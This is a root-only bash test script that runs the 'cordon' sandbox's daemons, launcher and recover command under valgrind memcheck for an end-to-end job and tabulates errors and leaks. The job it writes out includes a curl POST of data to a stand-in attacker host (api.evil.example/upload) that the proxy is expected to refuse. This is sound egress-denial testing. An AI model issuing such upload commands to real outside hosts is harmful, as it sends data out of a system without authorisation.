#!/usr/bin/env bash
# One end-to-end job with cordon's processes under valgrind's memcheck
# (--leak-check=full; errors, and definite or indirect leaks, fail):
# cordon-broker, cordon-proxy and cordon-hatch started here on free
# loopback ports with state of their own under a temporary directory, and
# `cordon run` of a small job, with --trace-children=no: the launcher, and
# the sandbox's PID 1 it clones (namespace flags, no CLONE_VM: valgrind
# takes it for a fork and follows it), which runs the launcher's code
# without an exec, are under valgrind; the job's own /bin/sh and curl,
# exec'd, are not. The job mints a token at http://broker.cordon/v1/token
# through the proxy, calls the one upstream it may (python3 -m http.server
# on 127.0.0.1, named by the proxy's hosts_file) with it, is refused
# another host, and writes a file (the seal has a patch). A second job's
# launcher (native) is then killed with SIGKILL, and `cordon recover`
# under valgrind finishes that job. Then the daemons are stopped with
# SIGTERM and each valgrind log is read.
#
# The hatch needs openat2(2), which valgrind 3.19 (Debian 12's) does not
# know: where this valgrind lacks it, the job's hatch runs natively and a
# second hatch under valgrind answers what it can (below); the table says
# which ran how. ./tests/bench/get_valgrind.sh unpacks Debian 13's, which
# knows it: PATH=$PWD/build-valgrind/bin:$PATH before this script.
#
# Prints, per process: whether it ran under valgrind, its valgrind
# errors, the bytes definitely, indirectly and possibly lost and still
# reachable at exit, and its exit status. Exit status 1 on any valgrind
# error, any definite or indirect leak, a process that did not stop with
# status 0, or a job that did not do what it should. Not part of
# ./tests/run: slow, and needs root (namespaces, mounts). It builds
# nothing: point it at a build without sanitizers.
#
#   ./tests/bench/valgrind_job.sh                  (as root)
#   CORDON_BIN_DIR=DIR    the programs (default build/bin), for instance of
#       cmake -S . -B /tmp/vg-build -DCMAKE_BUILD_TYPE=RelWithDebInfo \
#           -DCORDON_TESTS=OFF && cmake --build /tmp/vg-build
#   VG_START_TIMEOUT=300  seconds a daemon under valgrind has to listen
#   VG_SHOW_REACHABLE=1   the stacks of still-reachable blocks in the logs
#   CORDON_KEEP_TMP=1     keep the temporary directory (the valgrind logs)
set -euo pipefail
cd "$(dirname "$0")/../.."
script=valgrind_job
tmp_template=/tmp/cordon-vg.XXXXXX
# shellcheck source-path=SCRIPTDIR source=lib.sh
. tests/bench/lib.sh
start_timeout=${VG_START_TIMEOUT:-300}

[ "$(id -u)" = 0 ] || die "must run as root (namespaces, mounts)"
need valgrind curl python3
need_bin cordon cordon-broker cordon-proxy cordon-hatch
if grep -q __asan_init "$bin/cordon-broker" 2>/dev/null; then
	die "$bin is a sanitizer build: valgrind needs one without (CORDON_SANITIZE=OFF)"
fi

vglogs=$tmp/vg
mkdir -p "$vglogs" "$tmp/broker" "$tmp/proxy" "$tmp/hatch" "$tmp/launcher" \
	"$tmp/in/repo" "$tmp/in/jobs" "$tmp/upstream/invoices"
# One suppression, of a false report of valgrind 3.19: mount(2) with a
# NULL filesystem type, which the kernel ignores for a bind, a remount or a
# change of propagation (the only mounts the sandbox makes without a type),
# is taken for a read of address 0.
cat >"$tmp/cordon.supp" <<'SUPP'
{
   mount-type-null-bind-remount-propagation
   Memcheck:Param
   mount(type)
   fun:mount
   ...
   fun:sandbox_spawn
}
SUPP
# memcheck, as the issue asks (VG_SHOW_REACHABLE=1: the stacks of still
# reachable blocks too, to tell whose they are).
kinds=definite,indirect
[ "${VG_SHOW_REACHABLE:-0}" = 1 ] && kinds=all
vg() { # log option: the command line prefix that runs a program under valgrind
	printf '%s\n' nice -n 5 valgrind --tool=memcheck --leak-check=full \
		"--show-leak-kinds=$kinds" \
		--errors-for-leak-kinds=definite,indirect --error-exitcode=99 \
		--trace-children=no --num-callers=40 "--suppressions=$tmp/cordon.supp" "$1"
}

# --- the services ------------------------------------------------------------

# Waits up to start_timeout seconds for a command to succeed, while pid
# lives.
wait_long() { # pid command...
	local pid=$1 i
	shift
	for ((i = 0; i < start_timeout * 5; i++)); do
		"$@" >/dev/null 2>&1 && return 0
		kill -0 "$pid" 2>/dev/null || return 1
		sleep 0.2
	done
	return 1
}
declare -A pid_of
start() { # name, dir, yes|no (under valgrind), program and arguments: its address in $addr
	local name=$1 dir=$2 p pre=()
	[ "$3" = yes ] && mapfile -t pre < <(vg "--log-file=$vglogs/$name.%p.log")
	shift 3
	(cd "$dir" && exec "${pre[@]}" "$@" --listen 127.0.0.1:0) \
		</dev/null 2>"$tmp/$name.log" &
	p=$!
	pids+=("$p")
	pid_of[$name]=$p
	wait_long "$p" is_listening "$tmp/$name.log" ||
		die "$name did not start: $(tail -5 "$tmp/$name.log")"
	addr=http://$(listening "$tmp/$name.log")
	say "$name (pid $p$([ "${#pre[@]}" = 0 ] || echo ', valgrind')) listens on $addr"
}
conf() { # name, JSON: writes $tmp/name/name.json
	printf '%s\n' "$2" >"$tmp/$1/$1.json"
}

conf broker "{\"state_dir\": \"$tmp/broker/state\"}"
start broker "$tmp/broker" yes "$bin/cordon-broker" --config "$tmp/broker/broker.json"
broker=$addr
K=$tmp/broker/state/keys

up_port=$(free_port)
echo "127.0.0.1 invoices.internal" >"$tmp/proxy/hosts"
conf proxy "{\"state_dir\": \"$tmp/proxy/state\", \"broker\": \"$broker\",
 \"broker_key_file\": \"$K/verifier.key\", \"launcher_key_file\": \"$K/launcher.key\",
 \"launcher_uid\": 0, \"hosts_file\": \"$tmp/proxy/hosts\", \"follower\": \"valgrind\"}"
start proxy "$tmp/proxy" yes "$bin/cordon-proxy" --config "$tmp/proxy/proxy.json"
proxy=$addr

# The hatch opens every path of a workspace with openat2(2), for which
# valgrind 3.19 (Debian 12's) has no wrapper: it answers
# ENOSYS ("unhandled amd64-linux syscall: 437") and no workspace can be
# made. Asked here of this valgrind. Without it, the job's hatch runs
# natively, and a second hatch, under valgrind, gets the job's workspace
# request (refused: ENOSYS), a seal, a patch and a delete of an unknown
# job, a malformed body and an unauthenticated call, and is stopped: its
# start, API, refusals and stop are checked, its copy-in and seal are not.
# (The interpreter itself: python3 may be a wrapper script, which valgrind
# would run instead, leaving python to run natively.)
py=$(python3 -c 'import sys; print(sys.executable)')
openat2_errno=$(nice -n 5 valgrind --tool=none -q --log-file=/dev/null "$py" -c '
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
how = (ctypes.c_uint64 * 3)(0o2000000, 0, 0)  # O_RDONLY|O_CLOEXEC, mode 0, resolve 0
print(0 if libc.syscall(437, -100, b"/", how, 24) >= 0 else ctypes.get_errno())' 2>/dev/null ||
	echo "?")
if [ "$openat2_errno" = 0 ]; then
	hatch_vg=yes
else
	hatch_vg=no
	say "valgrind $(valgrind --version | sed 's/valgrind-//') has no openat2 (errno $openat2_errno):" \
		"the job's hatch runs natively, a second hatch under valgrind"
fi
conf hatch "{\"state_dir\": \"$tmp/hatch/state\", \"input_roots\": [\"$tmp/in\"],
 \"launcher_key_file\": \"$K/launcher.key\", \"broker\": \"$broker\",
 \"broker_key_file\": \"$K/launcher.key\"}"
start hatch "$tmp/hatch" "$hatch_vg" "$bin/cordon-hatch" --config "$tmp/hatch/hatch.json"
hatch=$addr
if [ "$hatch_vg" = no ]; then
	mkdir -p "$tmp/hatch2"
	conf hatch2 "{\"state_dir\": \"$tmp/hatch2/state\", \"input_roots\": [\"$tmp/in\"],
 \"launcher_key_file\": \"$K/launcher.key\", \"broker\": \"$broker\",
 \"broker_key_file\": \"$K/launcher.key\"}"
	start hatch2 "$tmp/hatch2" yes "$bin/cordon-hatch" --config "$tmp/hatch2/hatch2.json"
	hatch2=$addr
fi

conf launcher "{\"broker\": \"$broker\", \"proxy\": \"$proxy\", \"hatch\": \"$hatch\",
 \"launcher_key_file\": \"$K/launcher.key\", \"state_dir\": \"$tmp/launcher/state\",
 \"uid_base\": 410000, \"uid_count\": 100}"

# The upstream: an invoices API on loopback, not under valgrind (not ours).
printf '{"tenant": "4182", "total": 1234.5}\n' >"$tmp/upstream/invoices/4182.json"
(cd "$tmp/upstream" && exec python3 -m http.server --bind 127.0.0.1 "$up_port") \
	</dev/null >"$tmp/upstream.log" 2>&1 &
pids+=("$!")
wait_for curl -fs --max-time 1 -o /dev/null "http://127.0.0.1:$up_port/invoices/4182.json" ||
	die "the upstream did not start: $(tail -5 "$tmp/upstream.log")"

# The manifest: one capability, one upstream; the job's script and input.
curl -sf --max-time 120 -X PUT -H "Authorization: Bearer $(cat "$K/admin.key")" \
	"$broker/v1/manifests/valgrind-job" -d '{"name": "valgrind-job",
	"description": "the end-to-end job of tests/bench/valgrind_job.sh",
	"command": ["/bin/sh", "jobs/job.sh"], "env": {"LANG": "C.UTF-8"},
	"capabilities": [{"name": "invoices.read", "audience": "invoices-api",
	  "params": {"tenant": ["4182"]}, "ttl_seconds": 900,
	  "reason": "look up the customer'"'"'s last invoice"}],
	"egress": [{"host": "invoices.internal", "port": '"$up_port"', "methods": ["GET"],
	  "paths": ["/invoices/"], "audience": "invoices-api",
	  "allow_cidrs": ["127.0.0.0/8"], "reason": "the invoices API on loopback"}],
	"limits": {"wall_seconds": 900, "memory_mb": 512, "pids": 128,
	  "disk_mb": 64, "output_kb": 1024},
	"return": {"protected": [".github/**"], "max_patch_kb": 4096}}' \
	>/dev/null || die "the manifest was refused"
printf 'a line\n' >"$tmp/in/repo/README.md"
# Each step prints one line; the job's exit status says whether all went
# as they should (curl's timeouts are long: the proxy is under valgrind).
cat >"$tmp/in/jobs/job.sh" <<SH
set -u
ok=0
mint=\$(curl -s -m 300 -X POST http://broker.cordon/v1/token \\
	-d '{"capability": "invoices.read", "params": {"tenant": "4182"}}')
token=\$(printf '%s' "\$mint" | sed -n 's/.*"access_token":"\\([^"]*\\)".*/\\1/p')
if [ -n "\$token" ]; then echo "mint: a token"; else echo "mint: \$mint"; ok=1; fi
code=\$(curl -s -m 300 -o /tmp/body -w '%{http_code}' \\
	-H "Authorization: Bearer \$token" http://invoices.internal:$up_port/invoices/4182.json)
echo "allowed upstream: \$code \$(cat /tmp/body)"
[ "\$code" = 200 ] || ok=1
code=\$(curl -s -m 300 -o /dev/null -w '%{http_code}' -X POST -d x http://api.evil.example/upload)
echo "another host: \$code"
[ "\$code" = 403 ] || ok=1
printf 'written by the job\n' >repo/NOTES.md
echo "wrote repo/NOTES.md"
exit \$ok
SH

# --- the job -----------------------------------------------------------------

# One log by descriptor, not by name: the sandbox's PID 1, a fork under
# valgrind, goes on logging to it from inside its own root, where no path
# of ours exists (with --log-file=...%p the fork of the job's command
# cannot open its log and dies). Split by pid afterwards.
say "the job: cordon run under valgrind (slow: minutes)"
mapfile -t pre < <(vg --log-fd=9)
"${pre[@]}" "$bin/cordon" run --json --config "$tmp/launcher/launcher.json" \
	--manifest valgrind-job --patch-out "$tmp/job.patch" \
	--input "$tmp/in/repo:repo" --input "$tmp/in/jobs:jobs" \
	</dev/null >"$tmp/run.out" 2>"$tmp/run.err" 9>"$tmp/run.vglog" &
run_pid=$!
pids+=("$run_pid")
run_status=0
wait "$run_pid" || run_status=$?
awk -v d="$vglogs" '
	match($0, /^(==|--)[0-9]+(==|--)/) { p = substr($0, 3, RLENGTH - 4) }
	{ print > (d "/run." (p == "" ? 0 : p) ".log") }' "$tmp/run.vglog"
job_ok=1
result=$(cat "$tmp/run.out")
field() { python3 -c 'import json,sys
d = json.loads(sys.stdin.read() or "{}")
for k in sys.argv[1].split("."):
    d = d.get(k) if isinstance(d, dict) else None
print("" if d is None else json.dumps(d) if not isinstance(d, str) else d)' "$1" <<<"$result"; }
job=$(field job)
if [ -z "$job" ]; then
	say "cordon run gave no result (exit $run_status): $(tail -5 "$tmp/run.err")"
	job_ok=0
else
	say "job $job: exit_code $(field exit_code), stop_reason $(field stop_reason)," \
		"revoked $(field revoked), egress $(field egress), verdict $(field verdict)"
	field output.stdout.text | sed 's/^/    /' >&2
	if ! { [ "$run_status" = 0 ] && [ "$(field exit_code)" = 0 ] &&
		[ "$(field revoked)" = true ] &&
		[ "$(field egress.allowed)" -ge 2 ] && [ "$(field egress.denied)" -ge 1 ] &&
		grep -q '^+written by the job' "$tmp/job.patch" 2>/dev/null; }; then
		say "the job did not do what it should (cordon run exit $run_status)"
		job_ok=0
	fi
fi

# --- cordon recover -------------------------------------------------------------

# A second job, its launcher (native) killed with SIGKILL once the job has
# written; then `cordon recover` under valgrind finishes it: revoke, seal,
# the patch out, the workspace removed.
say "cordon recover: a second job's launcher killed, then recover under valgrind"
"$bin/cordon" run --config "$tmp/launcher/launcher.json" --manifest valgrind-job \
	--input "$tmp/in/repo:repo" -- /bin/sh -c \
	'printf "left by a dead launcher\n" >repo/LEFT.md; sleep 900' \
	</dev/null >/dev/null 2>"$tmp/run2.err" &
run2=$!
pids+=("$run2")
recover_ok=0 job2=
for ((i = 0; i < 600; i++)); do
	job2=$(ls "$tmp/launcher/state/running" 2>/dev/null | head -1)
	[ -n "$job2" ] && [ -e "$tmp/hatch/state/workspaces/$job2/rw/upper/repo/LEFT.md" ] && break
	sleep 0.5
done
kill -KILL "$run2" 2>/dev/null || true
{ wait "$run2"; } 2>/dev/null || true
sleep 1 # the sandbox's init dies with its launcher
mapfile -t pre < <(vg "--log-file=$vglogs/recover.%p.log")
recover_status=0
"${pre[@]}" "$bin/cordon" recover --json --config "$tmp/launcher/launcher.json" \
	>"$tmp/recover.out" 2>"$tmp/recover.err" || recover_status=$?
say "recover of $job2: $(cat "$tmp/recover.out")"
if [ -n "$job2" ] && [ "$recover_status" = 0 ] &&
	grep -q '^+left by a dead launcher' "$tmp/launcher/state/$job2.patch" 2>/dev/null &&
	[ ! -e "$tmp/hatch/state/workspaces/$job2" ]; then
	recover_ok=1
else
	say "recover did not finish the job (exit $recover_status): $(tail -3 "$tmp/recover.err")"
	job_ok=0
fi

# --- the second hatch (without openat2 under valgrind) ------------------------

if [ "$hatch_vg" = no ]; then
	h2() { # method path [body] [no-auth]: the status
		local args=(-s -m 300 -o /dev/null -w '%{http_code}' -X "$1")
		[ -n "${4:-}" ] || args+=(-H "Authorization: Bearer $(cat "$K/launcher.key")")
		[ -z "${3:-}" ] || args+=(-d "$3")
		curl "${args[@]}" "$hatch2$2" || true
	}
	j2=job_VALGRINDhatch2only00
	say "the second hatch (valgrind) answered:" \
		"workspace $(h2 POST /v1/workspaces "{\"job\": \"$j2\",
		  \"inputs\": [{\"src\": \"$tmp/in/repo\", \"dst\": \"repo\"}], \"disk_mb\": 8,
		  \"return\": {\"protected\": [\".github/**\"], \"max_patch_kb\": 64}}")," \
		"seal $(h2 POST "/v1/workspaces/$j2/seal" '{"stdout": "", "stderr": "", "output_kb": 1}')," \
		"patch $(h2 GET "/v1/workspaces/$j2/patch"), delete $(h2 DELETE "/v1/workspaces/$j2")," \
		"malformed $(h2 POST /v1/workspaces '{"job": [')," \
		"unauthenticated $(h2 GET "/v1/workspaces/$j2/report" "" noauth)"
fi

# --- the stop, and the logs --------------------------------------------------

# SIGTERM, then up to 300 s for valgrind's leak check and exit; the status
# in status_of (99: valgrind found errors).
declare -A status_of
zombie_or_gone() { # pid
	[ "$(ps -o stat= -p "$1" 2>/dev/null | cut -c1)" = Z ] || ! kill -0 "$1" 2>/dev/null
}
stop() { # name
	local p=${pid_of[$1]} i st=0
	kill -TERM "$p" 2>/dev/null || true
	for ((i = 0; i < 1500; i++)); do
		zombie_or_gone "$p" && break
		sleep 0.2
	done
	if ! zombie_or_gone "$p"; then
		say "$1 did not stop within 300 s of SIGTERM: killed"
		kill -KILL "$p" 2>/dev/null || true
	fi
	wait "$p" || st=$?
	status_of[$1]=$st
}
daemons=(hatch proxy broker)
[ "$hatch_vg" = yes ] || daemons=(hatch2 "${daemons[@]}")
for name in "${daemons[@]}"; do stop "$name"; done
status_of[run]=$run_status

# Sums one figure over the logs given: "errors", or the bytes of a leak
# kind ("definitely", "indirectly", "possibly", "still"); "-" when no log
# has a summary of it (a process killed before its leak check).
figure() { # what log...
	local what=$1
	shift
	awk -v w="$what" '
		w == "errors" && /ERROR SUMMARY:/ {
			for (i = 1; i <= NF; i++) if ($i == "SUMMARY:") { s += $(i + 1); n++ }
		}
		w != "errors" && $0 ~ ("  " w " (lost|reachable): ") {
			sub(/^.*: /, ""); gsub(/,/, ""); s += $1; n++
		}
		w != "errors" && /All heap blocks were freed -- no leaks are possible/ { n++ }
		END { if (n) print s + 0; else print "-" }' "$@"
}

fail=$((1 - job_ok))
line() { printf '%-22s %-50s %6s %9s %9s %9s %9s %4s\n' "$@"; }
echo
echo "== $script: one end-to-end job under valgrind memcheck (leaks in bytes at exit)"
line process "under valgrind" errors definite indirect possible reachable exit
row_of() { # name, label, why, logs...: a row; fails on an error or a leak
	local name=$1 label=$2 why=$3 e
	shift 3
	e=$(figure errors "$@")
	line "$label" "$why" "$e" "$(figure definitely "$@")" "$(figure indirectly "$@")" \
		"$(figure possibly "$@")" "$(figure still "$@")" "${status_of[$name]:--}"
	# A missing figure (no summary: killed, or no log) is a failure too.
	[ "$e" = 0 ] && [ "$(figure definitely "$@")" = 0 ] &&
		[ "$(figure indirectly "$@")" = 0 ] || fail=1
}
logs_of() { # name: its valgrind logs, or /dev/null
	find "$vglogs" -name "$1.*.log" | sort | grep . || echo /dev/null
}
for name in broker proxy; do
	mapfile -t logs < <(logs_of "$name")
	row_of "$name" "cordon-$name" "yes" "${logs[@]}"
done
if [ "$hatch_vg" = yes ]; then
	mapfile -t logs < <(logs_of hatch)
	row_of hatch cordon-hatch "yes" "${logs[@]}"
else
	line cordon-hatch "no: valgrind $(valgrind --version | sed 's/valgrind-//') has no openat2 (ENOSYS)" \
		- - - - - "${status_of[hatch]}"
	mapfile -t logs < <(logs_of hatch2)
	row_of hatch2 "cordon-hatch (2nd)" "yes: API and refusals only, not the job's" "${logs[@]}"
fi
# cordon run: the launcher's own log is the one whose pid is run_pid (nice
# execs valgrind); any other is a forked child's, still under valgrind: the
# sandbox's PID 1 (the launcher's code, without an exec; its pid is the
# one in its namespace: 1), or the job's command between fork and exec.
row_of run "cordon run" "yes (--trace-children=no)" "$vglogs/run.$run_pid.log"
mapfile -t kids < <(find "$vglogs" -name 'run.*.log' ! -name "run.$run_pid.log" | sort)
for k in "${kids[@]}"; do
	kp=${k##*/run.} kp=${kp%.log}
	if [ "$(figure errors "$k")" = - ]; then
		# Killed (SIGKILL) before its summary: its errors as logged.
		e=$(grep -c '^==[0-9]*== \(Invalid\|Conditional\|Use of\|Syscall param\|Mismatched\)' "$k" || true)
		line "  its fork (ns pid $kp)" "yes: killed, no summary; errors as logged" "$e" - - - - -
		[ "$e" = 0 ] || fail=1
	else
		row_of fork "  its fork (ns pid $kp)" "yes (a fork of cordon run)" "$k"
	fi
done
status_of[recover]=$recover_status
mapfile -t logs < <(logs_of recover)
row_of recover "cordon recover" "yes: a killed launcher's job finished" "${logs[@]}"
line "the job (sh, curl)" "no: exec'd programs, not cordon's code" - - - - - -
line "upstream (python3)" "no: not cordon's code" - - - - - -
for name in "${daemons[@]}" run recover; do
	[ "${status_of[$name]}" = 0 ] || fail=1
done
echo "job: $([ "$job_ok" = 1 ] && echo ok || echo FAILED); valgrind logs: $vglogs$([ "${CORDON_KEEP_TMP:-0}" = 1 ] || echo ' (removed; CORDON_KEEP_TMP=1 keeps them)')"
if [ "$fail" != 0 ]; then
	what='lost in\|Invalid \|Conditional\|Use of uninit\|Syscall param\|Mismatched\|Unsupported\|unhandled'
	for l in "$vglogs"/*.log; do
		grep -q "$what" "$l" || continue
		say "from ${l##*/} (the first 80 lines of findings):"
		sed 's/^==[0-9]*== //' "$l" | { grep -A25 "$what" || true; } | sed -n 1,80p >&2
	done
fi
[ "$fail" = 0 ]
